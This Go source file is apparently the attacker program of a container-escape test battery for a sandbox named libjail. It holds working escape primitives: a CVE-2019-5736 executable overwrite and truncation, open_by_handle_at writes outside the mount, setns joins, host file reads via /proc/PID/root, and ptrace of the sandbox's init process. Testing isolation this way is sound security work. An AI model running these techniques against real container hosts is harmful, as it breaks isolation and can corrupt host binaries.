// libjail-escape is the attacker of the escape battery. It runs inside a container and performs
// its operations in order, printing one JSON object of results (see internal/escape):
//
//	libjail-escape open PATH | openw PATH | read PATH | write PATH DATA | mknod PATH b|c MAJ MIN |
//	    mount SRC DST FSTYPE DATA | umount PATH | remount-rw PATH | cwd | fds | nsinodes |
//	    exes DURATION | setns | roots RELPATH | ptrace PID | kill0 PID |
//	    handle MOUNTDIR TYPE HEX FILE DATA | sleep DURATION | reopen-exe-after-exec | peek DURATION
//
// It is static (CGO_ENABLED=0) so it needs nothing from the container's root.
package main

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

type results map[string]string

func main() {
	// setns changes only the calling thread: keep every operation on one.
	runtime.LockOSThread()
	res := results{}
	args := os.Args[1:]
	need := func(n int) []string {
		if len(args) < n {
			fmt.Fprintf(os.Stderr, "libjail-escape: %s needs %d arguments\n", args[0], n-1)
			os.Exit(2)
		}
		a := args[:n]
		args = args[n:]
		return a
	}
	for len(args) > 0 {
		switch args[0] {
		case "open":
			a := need(2)
			res["open "+a[1]] = tryOpen(a[1], unix.O_RDONLY)
		case "openw":
			a := need(2)
			res["openw "+a[1]] = tryOpen(a[1], unix.O_WRONLY)
		case "read":
			a := need(2)
			b, err := os.ReadFile(a[1])
			if err != nil {
				res["read "+a[1]] = errName(err)
			} else {
				res["read "+a[1]] = "content:" + strings.TrimSpace(string(b[:min(len(b), 256)]))
			}
		case "write":
			a := need(3)
			res["write "+a[1]] = writeFile(a[1], a[2])
		case "mknod":
			a := need(5)
			mode := uint32(unix.S_IFBLK)
			if a[2] == "c" {
				mode = unix.S_IFCHR
			}
			ma, _ := strconv.Atoi(a[3])
			mi, _ := strconv.Atoi(a[4])
			res["mknod "+a[1]] = errName(unix.Mknod(a[1], mode|0o600, int(unix.Mkdev(uint32(ma), uint32(mi)))))
			res["open "+a[1]] = tryOpen(a[1], unix.O_RDONLY)
		case "mount":
			a := need(5)
			_ = os.MkdirAll(a[2], 0o755)
			res["mount "+a[2]] = errName(unix.Mount(a[1], a[2], a[3], 0, a[4]))
		case "umount":
			a := need(2)
			res["umount "+a[1]] = errName(unix.Unmount(a[1], unix.MNT_DETACH))
		case "remount-rw":
			a := need(2)
			res["remount-rw "+a[1]] = errName(unix.Mount("", a[1], "", unix.MS_REMOUNT, ""))
		case "cwd":
			need(1)
			wd, err := os.Getwd()
			res["cwd"] = wd + errSuffix(err)
			l, _ := os.Readlink("/proc/self/cwd")
			res["cwd link"] = l
		case "fds":
			need(1)
			ents, _ := os.ReadDir("/proc/self/fd")
			for _, e := range ents {
				l, _ := os.Readlink("/proc/self/fd/" + e.Name())
				res["fd "+e.Name()] = l
			}
		case "nsinodes":
			need(1)
			nsInodes(res, "ns ")
		case "exes":
			a := need(2)
			d, _ := time.ParseDuration(a[1])
			scanExes(res, d)
		case "setns":
			need(1)
			trySetns(res)
			nsInodes(res, "ns after setns ")
		case "peek":
			a := need(2)
			d, _ := time.ParseDuration(a[1])
			peekInit(res, d)
		case "roots":
			a := need(2)
			tryRoots(res, a[1])
		case "ptrace":
			a := need(2)
			pid, _ := strconv.Atoi(a[1])
			err := unix.PtraceAttach(pid)
			res["ptrace "+a[1]] = errName(err)
			if err == nil {
				// Let the tracee go as it was: wait for the attach stop, then detach.
				var ws unix.WaitStatus
				_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
				_ = unix.PtraceDetach(pid)
			}
		case "kill0":
			a := need(2)
			pid, _ := strconv.Atoi(a[1])
			res["kill0 "+a[1]] = errName(unix.Kill(pid, 0))
		case "handle":
			a := need(6)
			res["handle "+a[4]] = byHandle(a[1], a[2], a[3], a[4], a[5])
		case "sleep":
			a := need(2)
			d, _ := time.ParseDuration(a[1])
			time.Sleep(d)
		case "reopen-exe-after-exec":
			// Second half of the CVE-2019-5736 attack: the fd given in LIBJAIL_ESCAPE_EXEFD was opened
			// O_PATH on /proc/self/exe by the previous program image; now that this image runs, the
			// old executable is no longer busy and can be opened for writing through the fd.
			need(1)
			reopenExe(res)
		default:
			fmt.Fprintf(os.Stderr, "libjail-escape: unknown operation %q\n", args[0])
			os.Exit(2)
		}
	}
	if err := json.NewEncoder(os.Stdout).Encode(res); err != nil {
		os.Exit(1)
	}
}

func errName(err error) string {
	if err == nil {
		return "ok"
	}
	for {
		if e, ok := err.(unix.Errno); ok {
			return unix.ErrnoName(e)
		}
		u, ok := err.(interface{ Unwrap() error })
		if !ok {
			return err.Error()
		}
		err = u.Unwrap()
	}
}

func errSuffix(err error) string {
	if err == nil {
		return ""
	}
	return " (" + errName(err) + ")"
}

func tryOpen(p string, flags int) string {
	fd, err := unix.Open(p, flags|unix.O_CLOEXEC, 0)
	if err != nil {
		return errName(err)
	}
	unix.Close(fd)
	return "ok"
}

func writeFile(p, data string) string {
	fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "open " + errName(err)
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte(data)); err != nil {
		return "write " + errName(err)
	}
	return "ok"
}

var nsTypes = []string{"cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "time", "user", "uts"}

func nsInodes(res results, prefix string) {
	for _, t := range nsTypes {
		var st unix.Stat_t
		if err := unix.Stat("/proc/thread-self/ns/"+t, &st); err == nil {
			res[prefix+t] = strconv.FormatUint(st.Ino, 10)
		}
	}
}

func pids() []string {
	ents, _ := os.ReadDir("/proc")
	var out []string
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			out = append(out, e.Name())
		}
	}
	return out
}

// scanExes tries, for d, to open for writing the executable of every process it can see, by the
// /proc/PID/exe link, and by an O_PATH handle reopened through /proc/self/fd (which dodges
// ETXTBSY races in the classic exploit). A write that opens is tried with zero bytes only at
// offset 0 would prove nothing; it writes one byte of what is already there.
func scanExes(res results, d time.Duration) {
	self := strconv.Itoa(os.Getpid())
	deadline := time.Now().Add(d)
	for first := true; first || time.Now().Before(deadline); first = false {
		for _, pid := range pids() {
			if pid == self {
				continue
			}
			exe := "/proc/" + pid + "/exe"
			target, err := os.Readlink(exe)
			if err != nil {
				continue
			}
			key := "exe " + target
			if _, done := res[key]; done {
				continue
			}
			res[key] = writeSame(exe)
			if p, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				res["exe via O_PATH "+target] = writeSame("/proc/self/fd/" + strconv.Itoa(p))
				unix.Close(p)
			}
		}
		time.Sleep(time.Millisecond)
	}
	res["exe self"] = writeSame("/proc/self/exe")
}

// writeSame opens p for writing and writes back its own first byte: a success changes nothing on
// disk but proves the attacker could have written anything.
func writeSame(p string) string {
	fd, err := unix.Open(p, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return "open " + errName(err)
	}
	defer unix.Close(fd)
	b := make([]byte, 1)
	if _, err := unix.Pread(fd, b, 0); err != nil {
		return "read " + errName(err)
	}
	if _, err := unix.Pwrite(fd, b, 0); err != nil {
		return "write " + errName(err)
	}
	return "WROTE"
}

func reopenExe(res results) {
	fd, err := strconv.Atoi(os.Getenv("LIBJAIL_ESCAPE_EXEFD"))
	if err != nil {
		res["reopen exe"] = "no fd"
		return
	}
	target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	res["reopen exe target"] = target
	res["reopen exe"] = writeSame("/proc/self/fd/" + strconv.Itoa(fd))
	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err == nil {
		res["reopen exe truncate"] = errName(unix.Ftruncate(w, 0))
		unix.Close(w)
	}
}

// trySetns tries every fd it holds and every /proc/PID/ns/* it can see, for each namespace type
// but mnt and user (a multithreaded Go program cannot join those; the roots operation covers the
// file system side of mnt). A join that works is recorded; nsinodes afterwards tell where it is.
func trySetns(res results) {
	var cands []string
	ents, _ := os.ReadDir("/proc/self/fd")
	for _, e := range ents {
		cands = append(cands, "/proc/self/fd/"+e.Name())
	}
	for _, pid := range pids() {
		for _, t := range []string{"cgroup", "ipc", "net", "pid", "time", "uts"} {
			cands = append(cands, "/proc/"+pid+"/ns/"+t)
		}
	}
	for _, c := range cands {
		fd, err := unix.Open(c, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			unix.Close(fd)
			continue
		}
		var sfs unix.Statfs_t
		if unix.Fstatfs(fd, &sfs) != nil || sfs.Type != unix.NSFS_MAGIC {
			unix.Close(fd)
			continue
		}
		err = unix.Setns(fd, 0)
		unix.Close(fd)
		if err == nil {
			res["setns "+strconv.FormatUint(st.Ino, 10)] = "ok via " + c
		} else if _, seen := res["setns "+strconv.FormatUint(st.Ino, 10)]; !seen {
			res["setns "+strconv.FormatUint(st.Ino, 10)] = errName(err) + " via " + c
		}
	}
}

// tryRoots reads rel through the root directory of every process it can see (/proc/PID/root):
// a process outside the container's mount namespace would expose the host's files.
func tryRoots(res results, rel string) {
	for _, pid := range pids() {
		p := filepath.Join("/proc", pid, "root", rel)
		b, err := os.ReadFile(p)
		if err != nil {
			res["root "+pid] = errName(err)
		} else {
			res["root "+pid] = "content:" + strings.TrimSpace(string(b[:min(len(b), 256)]))
		}
	}
}

// byHandle opens a directory by file handle relative to a mount it holds (CAP_DAC_READ_SEARCH),
// which reaches directories the mount does not show, and writes data to file inside it.
func byHandle(mountDir, typ, hexHandle, file, data string) string {
	t, _ := strconv.Atoi(typ)
	b, err := hex.DecodeString(hexHandle)
	if err != nil {
		return err.Error()
	}
	m, err := unix.Open(mountDir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "open mount " + errName(err)
	}
	defer unix.Close(m)
	fd, err := unix.OpenByHandleAt(m, unix.NewFileHandle(int32(t), b), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
	if err != nil {
		return "open_by_handle_at " + errName(err)
	}
	defer unix.Close(fd)
	w, err := unix.Openat(fd, file, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "opened; openat " + errName(err)
	}
	defer unix.Close(w)
	if _, err := unix.Write(w, []byte(data)); err != nil {
		return "opened; write " + errName(err)
	}
	return "WROTE"
}

// peekInit watches, for d, for libjail's own children (exe memfd:libjail-init) appearing in the
// container, as an exec'd process's child does before it execs. For the first one it finds it tries
// to trace it; traced (and so stopped) or not, it records its cgroups and fds and tries to open
// them, then reads its executable again: "peek exe after" tells whether all this still hit libjail's
// child or already the program it exec'd.
func peekInit(res results, d time.Duration) {
	self := strconv.Itoa(os.Getpid())
	for deadline := time.Now().Add(d); time.Now().Before(deadline); {
		for _, pid := range pids() {
			if pid == self {
				continue
			}
			target, err := os.Readlink("/proc/" + pid + "/exe")
			if err != nil || !strings.Contains(target, "libjail-init") {
				continue
			}
			res["peek pid"] = pid
			n, _ := strconv.Atoi(pid)
			err = unix.PtraceAttach(n)
			res["peek ptrace"] = errName(err)
			if err == nil {
				var ws unix.WaitStatus
				_, _ = unix.Wait4(n, &ws, unix.WALL, nil)
			}
			if b, err := os.ReadFile("/proc/" + pid + "/cgroup"); err == nil {
				res["peek cgroup"] = strings.TrimSpace(string(b))
			}
			ents, _ := os.ReadDir("/proc/" + pid + "/fd")
			for _, e := range ents {
				l, _ := os.Readlink("/proc/" + pid + "/fd/" + e.Name())
				res["peek fd "+e.Name()] = l + " open " + tryOpen("/proc/"+pid+"/fd/"+e.Name(), unix.O_RDONLY)
			}
			after, _ := os.Readlink("/proc/" + pid + "/exe")
			res["peek exe after"] = after
			if err == nil {
				_ = unix.PtraceDetach(n)
			}
			return
		}
	}
	res["peek pid"] = "none seen"
}
